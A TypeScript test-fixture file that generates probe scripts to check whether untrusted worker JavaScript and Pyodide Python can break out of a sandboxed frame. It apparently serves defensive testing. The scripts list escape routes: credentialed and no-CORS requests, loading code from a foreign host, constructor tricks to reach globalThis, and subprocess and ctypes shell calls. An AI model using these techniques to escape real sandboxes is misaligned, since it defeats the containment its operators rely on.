/*
 * Ways out of the frame, tried by code that is in it: as the script of a worker, and as the candidate's Python.
 */

/** The script of a worker that tries everything a worker knows, and says what became of it, as JSON. */
export function hostileScript(app: string, foreign: string): string {
  return `
const app = ${JSON.stringify(app)};
const foreign = ${JSON.stringify(foreign)};
const within = (promise) => Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 1500))]);
const opens = (thing) => new Promise((resolve, reject) => { thing.onopen = () => resolve('open'); thing.onerror = () => reject(new Error('refused')); });
const worker = (address) => new Promise((resolve, reject) => {
  const nested = new Worker(address);
  nested.onmessage = ({ data }) => resolve(data);
  nested.onerror = () => reject(new Error('refused'));
});
const both = async (ask) => {
  const tried = await Promise.allSettled([within(ask(app)), within(ask(foreign))]);
  const got = tried.find((one) => one.status === 'fulfilled');
  if (got === undefined) throw tried[0].reason;
  return got.value;
};
const nestedCode = 'fetch(' + JSON.stringify(foreign + '/nested') + ', { mode: "no-cors" }).then(() => postMessage("sent"), () => setTimeout(() => { throw new Error("refused") }))';
const probes = {
  'fetch with credentials': () => within(fetch(app + '/api/app', { credentials: 'include' }).then((r) => r.status)),
  'fetch without CORS': () => both((to) => fetch(to + '/?no-cors', { mode: 'no-cors', credentials: 'include' }).then((r) => r.type)),
  POST: () => both((to) => fetch(to + '/api/sessions', { method: 'POST', mode: 'no-cors', body: '{}', keepalive: true }).then((r) => r.type)),
  'foreign fetch': () => within(fetch(foreign + '/cors').then((r) => r.status)),
  WebSocket: () => both((to) => opens(new WebSocket(to.replace('http', 'ws') + '/socket'))),
  EventSource: () => both((to) => opens(new EventSource(to + '/events'))),
  XMLHttpRequest: () => both((to) => new Promise((resolve, reject) => {
    const asked = new XMLHttpRequest();
    asked.onload = () => resolve(asked.status);
    asked.onerror = () => reject(new Error('refused'));
    asked.open('GET', to + '/?xhr');
    asked.send();
  })),
  'dynamic import': () => both((to) => import(to + '/probe.js').then(() => 'imported')),
  IndexedDB: () => within(new Promise((resolve, reject) => {
    const asked = indexedDB.open('theirs');
    asked.onsuccess = () => resolve('opened');
    asked.onerror = () => reject(asked.error);
  })),
  Cache: () => within(caches.open('theirs').then(() => 'opened')),
  OPFS: () => within(navigator.storage.getDirectory().then(() => 'opened')),
  localStorage: async () => { if (typeof localStorage === 'undefined') throw new Error('none'); return localStorage.length; },
  BroadcastChannel: async () => {
    const channel = new BroadcastChannel('theirs');
    const heard = new Promise((resolve) => { channel.onmessage = () => resolve('heard'); });
    channel.postMessage('from the frame');
    return within(heard);
  },
  WebTransport: () => within(new WebTransport(app.replace('http', 'https') + '/wt').ready.then(() => 'open')),
  'nested worker': () => both((to) => worker(to + '/nested.js')),
  eval: async () => (0, eval)('1 + 1'),
  'Function constructor': async () => new Function('return 1')(),
  'asynchronous constructor': async () => (async () => {}).constructor('return 1')(),
  'timer of text': () => within(new Promise((resolve) => { self.timed = resolve; setTimeout('self.timed("ran")', 0); })),
  importScripts: async () => { importScripts(app + '/nested.js'); return 'imported'; },
  'script from data': () => within(import('data:text/javascript,export default 1').then(() => 'imported')),
  font: () => both((to) => new FontFace('theirs', 'url(' + to + '/theirs.woff2)').load().then(() => 'loaded')),
  'nested worker of its own code': () => within(worker(URL.createObjectURL(new Blob([nestedCode])))),
  'compiled from a request': () => both((to) => WebAssembly.compileStreaming(fetch(to + '/theirs.wasm')).then(() => 'compiled')),
};
self.onmessage = () => undefined;
(async () => {
  const became = {};
  for (const [name, probe] of Object.entries(probes)) {
    try { became[name] = 'allowed: ' + String(await probe()).slice(0, 60); }
    catch (error) { became[name] = 'blocked'; }
  }
  postMessage(JSON.stringify(became));
})();
`;
}

/**
 * A candidate's solution that tries the same through Python. Called, it gives how many ways it tried and a line for each that
 * worked; those that take a while leave their names in sys.worked.
 */
export function hostilePython(app: string, foreign: string): string {
  return `
import asyncio
import sys

APP, FOREIGN = ${JSON.stringify(app)}, ${JSON.stringify(foreign)}
sys.worked = []

def later(name, waiting):
    async def wait():
        try:
            await waiting
            sys.worked.append(name)
        except BaseException:
            pass
    asyncio.ensure_future(wait())

def tries():
    def fetch_by_name():
        import js
        return js.fetch(APP + "/api/app")
    def pyfetch():
        from pyodide.http import pyfetch
        later("pyfetch", pyfetch(FOREIGN + "/pyfetch"))
    def open_url():
        from pyodide.http import open_url
        return open_url(APP + "/api/app").read()
    def urllib():
        import urllib.request
        return urllib.request.urlopen(FOREIGN + "/urllib", timeout=1).status
    def sockets():
        import socket
        from urllib.parse import urlsplit
        held = socket.create_connection((urlsplit(FOREIGN).hostname, urlsplit(FOREIGN).port), timeout=1)
        held.send(b"GET / HTTP/1.0\\r\\n\\r\\n")
        return held.recv(10)
    def run_js():
        from pyodide.code import run_js
        return run_js("fetch('" + FOREIGN + "/run_js', { mode: 'no-cors' })")
    def function():
        import js
        return js.Object.constructor("return globalThis")().fetch(FOREIGN + "/function")
    def another_function():
        import js
        return js.setTimeout.constructor("return globalThis")()
    def text_timer():
        import js
        js.Object.worked = False
        js.setTimeout("Object.worked = true", 0)
        async def ran():
            await asyncio.sleep(0.05)
            if not js.Object.worked:
                raise RuntimeError("it did not run")
        later("text_timer", ran())
    def from_pyodide_js():
        import pyodide_js
        return pyodide_js.loadPackage.constructor("return globalThis")()
    def load_package():
        import pyodide_js
        async def loaded():
            await pyodide_js.loadPackage(FOREIGN + "/theirs-1.0-py3-none-any.whl")
            import theirs
        later("load_package", loaded())
    def indexed_db():
        import pyodide_js
        asked = pyodide_js._module.FS.filesystems.IDBFS.indexedDB().open("theirs")
        async def opened():
            await asyncio.sleep(0.2)
            return asked.result.name
        later("indexed_db", opened())
    def through_the_core():
        import _pyodide_core
        return _pyodide_core.jsnull.constructor("return globalThis")()
    def module_eval():
        import pyodide_js
        return pyodide_js._api.public_api.runPython.constructor("return globalThis")()
    def worker_by_name():
        import js
        return js.Worker.new(APP + "/nested.js")
    def process():
        import subprocess
        return subprocess.run(["ls"])
    def environment():
        import js
        return js.process.env
    def native():
        import ctypes
        return "ran" if ctypes.CDLL(None).system(b"ls") == 0 else None
    def storage():
        import js
        return js.localStorage.length
    def channel():
        import js
        return js.BroadcastChannel.new("theirs").postMessage("from the frame")
    ways = [held for held in locals().values() if callable(held)]
    worked = []
    for way in ways:
        try:
            got = way()
            if got is not None:
                worked.append(way.__name__ + ": " + repr(got)[:80])
        except BaseException as error:
            pass
    return [len(ways), worked]
`;
}
